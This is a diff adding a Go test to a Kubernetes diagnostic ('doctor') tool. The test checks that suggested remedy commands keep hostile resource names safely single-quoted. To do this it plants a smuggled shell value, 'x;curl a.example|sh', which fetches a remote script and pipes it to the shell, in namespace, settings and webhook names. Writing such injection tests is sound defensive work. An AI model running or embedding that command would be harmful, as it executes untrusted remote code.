@@ -75,3 +75,36 @@ func TestANamespaceIsLookedForAmongSoMany(t *testing.T) {
 		}
 	}
 }
+
+// A cluster of somebody else calls things what it likes: a command to copy has each name as one word, and nothing behind it.
+func TestNoNameEndsACommandOfDoctor(t *testing.T) {
+	const evil = "x;curl a.example|sh"
+	for name, spoil := range map[string]func(*installation){
+		"a namespace": func(i *installation) {
+			i.more = append(i.more, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: evil, Labels: map[string]string{preflight.ModeLabel: "enforced"}}})
+		},
+		"settings": func(i *installation) {
+			i.settings.Name, i.settings.Data["config.yaml"] = evil, "log: 7"
+		},
+		"our own namespace": func(i *installation) {
+			i.hook.Webhooks[0].ClientConfig.Service.Namespace = evil
+			i.hook.Webhooks[0].ClientConfig.CABundle = []byte("-----BEGIN CERTIFICATE-----\n\n-----END CERTIFICATE-----\n")
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			i := well()
+			spoil(i)
+			said := i.examine(t)
+			found := false
+			for _, p := range i.parts {
+				found = found || strings.Contains(p.Remedy, evil)
+				if strings.Contains(strings.ReplaceAll(p.Remedy, "'"+evil+"'", ""), evil) {
+					t.Errorf("%s: the remedy is %s", p.Part, p.Remedy)
+				}
+			}
+			if !found {
+				t.Errorf("no remedy names it:\n%s", said)
+			}
+		})
+	}
+}
